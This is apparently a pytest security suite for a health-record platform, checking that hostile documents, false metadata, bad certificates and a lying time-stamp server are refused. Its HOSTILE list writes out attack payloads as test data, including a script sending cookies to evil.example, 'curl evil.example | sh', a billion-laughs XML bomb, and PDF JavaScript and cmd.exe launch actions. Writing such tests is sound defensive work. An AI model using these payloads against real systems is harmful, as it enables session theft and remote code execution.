"""OWASP API10:2023 Unsafe Consumption of APIs: what CareVault takes from other systems (the
documents hospitals send with ITI-65, identity feeds, client certificates and signatures, a
time-stamping authority's answers) is validated as hostile input before anything is kept.
"""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from carevault.adapters.timestamping import HttpTimeStampAuthority, TimestampError
from carevault.domain.authorization import Authority
from carevault.fhirmodel.directory import new_organization
from carevault.services import directory as svc
from support.backend import assertion, token_request
from support.builders import patient
from support.documents import Pro, detached_jws, provide_bundle
from support.owasp import (
    Findings,
    Impostor,
    Target,
    attempt,
    audit_sizes,
    card,
    hospital_system,
    pdf,
    records_since,
)

pytestmark = pytest.mark.security

CDA_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?>\n<ClinicalDocument xmlns="urn:hl7-org:v3">'
            b"<title>Lettre de sortie</title><component><structuredBody><component><section>"
            b"<text>")
CDA_TAIL = b"</text></section></component></structuredBody></component></ClinicalDocument>\n"
OTHER_HOSPITAL = "https://carevault.lu/fhir/sid/local/other-hospital"


def cda(inside: bytes, *, before: bytes = b"") -> bytes:
    return before + CDA_HEAD + inside + CDA_TAIL


HOSTILE = [
    ("a CDA with a script after its first 64 KiB", "application/hl7-v3+xml",
     cda(b" " * 70_000 + b"<script>fetch('//evil.example/'+document.cookie)</script>")),
    ("a CDA with an XHTML script under a prefix", "application/hl7-v3+xml",
     cda(b'<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>')),
    ("a CDA with an SVG under a prefix", "application/hl7-v3+xml",
     cda(b'<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
    ("a CDA with an event handler", "application/hl7-v3+xml",
     cda(b'<renderMultiMedia referencedObject="x" onmouseover="alert(1)"/>')),
    ("a CDA styled by a remote XSLT", "application/hl7-v3+xml",
     cda(b"", before=b'<?xml-stylesheet type="text/xsl" href="https://evil.example/cda.xsl"?>')),
    ("a CDA whose entity builds a script", "application/hl7-v3+xml",
     cda(b"&s;", before=b'<!DOCTYPE ClinicalDocument [<!ENTITY s "&#60;script&#62;">]>')),
    ("a CDA of a billion laughs", "application/hl7-v3+xml", cda(b"&l9;", before=(
        b'<!DOCTYPE d [<!ENTITY l0 "lol">' + b"".join(
            b'<!ENTITY l%d "&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;">'
            % (n, *(n - 1,) * 10) for n in range(1, 10)) + b"]>"))),
    ("a FHIR document whose narrative hides a script", "application/fhir+json",
     b'{"resourceType": "Bundle", "type": "document", "entry": [{"resource": {'
     b'"resourceType": "Composition", "text": {"div": "\\u003cscript>alert(1)\\u003c/script>"'
     b"}}}]}"),
    ("a PDF that runs JavaScript when opened", "application/pdf",
     b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS "
     b"(this.exportDataObject({cName: 'x', nLaunch: 2})) >> >> endobj\n%%EOF\n"),
    ("a PDF whose JavaScript is spelt with #xx escapes", "application/pdf",
     b"%PDF-1.7\n1 0 obj << /OpenAction << /S /J#61v#61Script /JS (app.alert(1)) >> >> "
     b"endobj\n%%EOF\n"),
    ("a PDF that launches a program", "application/pdf",
     b"%PDF-1.7\n1 0 obj << /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >> "
     b"endobj\n%%EOF\n"),
    ("HTML declared as a PDF", "application/pdf",
     b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
    ("HTML declared as a CDA", "application/hl7-v3+xml",
     b"<html><body onload=\"alert(1)\">Lettre</body></html>"),
    ("HTML declared as text", "text/plain", b"<html><script>alert(1)</script></html>"),
    ("an executable declared as a PDF", "application/pdf", b"MZ\x90\x00\x03 This program"),
    ("a shell script declared as text", "text/plain", b"#!/bin/sh\ncurl evil.example | sh\n"),
    ("an SVG image", "image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
]


def attack_hostile_documents(target: Target) -> list[str]:
    """A hospital's system (or a patient's app) sends documents built to run something in the
    browser or viewer of whoever opens them, or that are not what they say they are: refused
    (415), nothing stored."""
    f, w, http = Findings(), target.world, target.http
    for what, media_type, content in HOSTILE:
        signed = provide_bundle(w.patient_a, w.doctor, content, content_type=media_type)
        attempt(f, target, f"a physician sends {what}", lambda signed=signed: http.post(
            "/fhir", json=signed, headers=w.doctor.headers), 415)
    for what, media_type, content in HOSTILE[:3]:
        upload = provide_bundle(w.patient_a, f"Patient/{w.patient_a}", content,
                                content_type=media_type)
        attempt(f, target, f"a patient's app sends {what}", lambda upload=upload: http.post(
            "/fhir", json=upload, headers=w.app_a), 415)
    # The control: an ordinary CDA and PDF are taken.
    for media_type, content in (("application/hl7-v3+xml", cda(b"Sortie le 20/11.")),
                                ("application/pdf", pdf("ordinary"))):
        taken = http.post("/fhir", json=provide_bundle(w.patient_a, w.doctor, content,
                                                       content_type=media_type),
                          headers=w.doctor.headers)
        if taken.status_code != 200:
            f.add(f"an ordinary {media_type} was refused: {taken.text[:200]}")
    return f.items


def attack_declarations_that_lie(target: Target) -> list[str]:
    """What a sending system declares about a document must be true: its size, its hash, its
    type, its codes, and its author's signature over these very bytes."""
    f, w, http = Findings(), target.world, target.http
    content = pdf("declared")
    colleague = Pro(target.platform, "HP-OWASP-COLLEAGUE")
    for what, bundle, status in [
        ("a size that is not the content's", _sized(
            provide_bundle(w.patient_a, w.doctor, content), len(content) + 1), 400),
        ("a hash that is not the content's", provide_bundle(
            w.patient_a, w.doctor, content, sha1=base64.b64encode(b"\0" * 20).decode()), 400),
        ("a type code outside the affinity domain", provide_bundle(
            w.patient_a, w.doctor, content, type_code="00000-0"), 400),
        ("a signature by someone else", provide_bundle(
            w.patient_a, w.doctor, content,
            signature=detached_jws(content, colleague.key_pem, colleague.chain)), 422),
        ("a signature over other bytes", provide_bundle(
            w.patient_a, w.doctor, content,
            signature=detached_jws(content + b" ", w.doctor.key_pem, w.doctor.chain)), 422),
    ]:
        attempt(f, target, what, lambda bundle=bundle: http.post(
            "/fhir", json=bundle, headers=w.doctor.headers), status)
    binary_lies = provide_bundle(w.patient_a, w.doctor, content)
    for entry in binary_lies["entry"]:
        if entry["resource"]["resourceType"] == "Binary":
            entry["resource"]["contentType"] = "text/plain"
    attempt(f, target, "a Binary whose type differs from its DocumentReference's", lambda:
            http.post("/fhir", json=binary_lies, headers=w.doctor.headers), 400)
    return f.items


def _sized(bundle: dict[str, Any], size: int) -> dict[str, Any]:
    for entry in bundle["entry"]:
        if entry["resource"]["resourceType"] == "DocumentReference" and \
                not entry["resource"].get("relatesTo"):
            entry["resource"]["content"][0]["attachment"]["size"] = size
    return bundle


def attack_an_identity_feed_beyond_its_authority(target: Target) -> list[str]:
    """The hospital's identity feed (registered for its own numbers) names patients by another
    hospital's numbers, creates a patient it gives no number of its own, merges a patient
    another hospital knows, and sends an impossible national number."""
    f, w, http, platform = Findings(), target.world, target.http, target.platform
    feed = hospital_system(target, Authority.IDENTITY_SOURCE)
    systems = platform.directory.systems
    with platform.unit_of_work() as uow:  # another hospital, which knows B by its number
        svc.create_organization(uow, platform.directory, new_organization(
            systems, identifier="ORG-H2", name="Autre H\u00f4pital", kind="hospital",
            patient_id_system=OTHER_HOSPITAL))
    shared = http.get(f"/fhir/Patient/{w.patient_b}", headers=feed).json()
    shared["identifier"].append({"system": OTHER_HOSPITAL, "value": "O-2"})
    with platform.unit_of_work() as uow:
        svc.update_patient(uow, platform.directory, w.patient_b, shared)
    for what, method, url, body, status in [
        ("a patient by another hospital's number", "PUT",
         f"/fhir/Patient?identifier={OTHER_HOSPITAL}|O-9", patient(systems, 6), 403),
        ("a patient with no number of its own", "POST", "/fhir/Patient",
         patient(systems, 7), 403),
        ("a merge of a patient another hospital knows", "POST", "/fhir/Patient/$merge", {
            "resourceType": "Parameters", "parameter": [
                {"name": "source-patient",
                 "valueReference": {"reference": f"Patient/{w.patient_b}"}},
                {"name": "target-patient",
                 "valueReference": {"reference": f"Patient/{w.patient_a}"}}]}, 403),
        ("an impossible national number", "PUT",
         "/fhir/Patient?identifier=https://carevault.lu/fhir/sid/local/test-hospital|H-8", {
             **patient(systems, 8, local="H-8"), "identifier": [
                 {"system": systems.national, "value": "1980041200000"},
                 {"system": "https://carevault.lu/fhir/sid/local/test-hospital",
                  "value": "H-8"}]}, 422),
    ]:
        attempt(f, target, f"the feed: {what}", lambda method=method, url=url, body=body:
                http.request(method, url, json=body, headers=feed), status)
    return f.items


def attack_hostile_client_certificates(target: Target) -> list[str]:
    """Certificates are data another party made: a chain of three, garbage, text that is not
    base64, an empty chain, a certificate made by another CA, an assertion too large. Each is
    401 invalid_client, never a crash, and no token."""
    f, w, http, platform = Findings(), target.world, target.http, target.platform
    holder = card(platform, w.stranger.id)
    genuine = assertion(holder, platform)
    _, payload, signature = genuine.split(".")

    def with_x5c(chain: Any) -> str:
        head = {"alg": "ES256", "x5c": chain}
        encoded = base64.urlsafe_b64encode(
            json.dumps(head).encode()).decode().rstrip("=")
        return f"{encoded}.{payload}.{signature}"

    x5c = [base64.b64encode(der).decode() for der in holder.chain_der]
    for what, signed in [
        ("a chain of three", with_x5c([*x5c, x5c[1]])),
        ("garbage DER", with_x5c([base64.b64encode(b"\x30\x82\xff\xff" + b"\0" * 64)
                                  .decode()])),
        ("text that is not base64", with_x5c(["not base64 at all!"])),
        ("an empty chain", with_x5c([])),
        ("a chain that is no list", with_x5c({"x": 1})),
        ("an assertion of 20 kB", genuine + "A" * 20_000),
        ("a header that is no JSON", f"bm90IGpzb24.{payload}.{signature}"),
    ]:
        since = audit_sizes(platform)
        answer = token_request(http, signed)
        if answer.status_code != 401 or answer.json().get("error") != "invalid_client":
            f.add(f"{what}: {answer.status_code} {answer.text[:200]}")
        if "access_token" in answer.text:
            f.add(f"{what}: a token was issued")
        if not [r for r in records_since(platform, since) if r.interaction == "token"]:
            f.add(f"{what}: the refusal is not recorded")
    return f.items


def attack_a_time_stamping_authority_that_lies(target: Target) -> list[str]:
    """Whoever answers at the TSA's address sends garbage, a rejection, nothing, an error, or
    far too much: no time-stamp is stored for the tree head, and the log goes on."""
    f, platform = Findings(), target.platform
    platform.audit.sign_tree_head("clinical")
    size = platform.audit.latest_tree_head("clinical").tree_size
    rejection = bytes.fromhex("3005300302010" + "2")  # TimeStampResp { status rejection }
    for what, status, body in [("garbage", 200, b"this is not DER"),
                               ("a rejection", 200, rejection),
                               ("nothing", 200, b""),
                               ("an error", 500, b"<html>Internal Server Error</html>"),
                               ("a megabyte", 200, b"\x30\x84" + b"\0" * 1_000_000)]:
        with Impostor(status, body, {"Content-Type": "application/timestamp-reply"}) as tsa:
            try:
                platform.audit.stamp_latest_tree_head(
                    "clinical", HttpTimeStampAuthority(tsa.url))
                f.add(f"a TSA answering {what} was accepted")
            except TimestampError:
                pass
            except Exception as error:  # anything else would stop the chores' loop turn
                f.add(f"a TSA answering {what}: {type(error).__name__}: {error}")
    if platform.audit.timestamp_token("clinical", size) is not None:
        f.add("a time-stamp was stored from a lying TSA")
    if platform.audit.sign_tree_head("clinical").tree_size < size:
        f.add("the log stopped growing")
    return f.items


ATTACKS = [
    attack_hostile_documents,
    attack_declarations_that_lie,
    attack_an_identity_feed_beyond_its_authority,
    attack_hostile_client_certificates,
    attack_a_time_stamping_authority_that_lies,
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.__name__.removeprefix("attack_"))
def test_what_other_systems_send_is_checked(attack: Any, target: Target) -> None:
    assert attack(target) == []
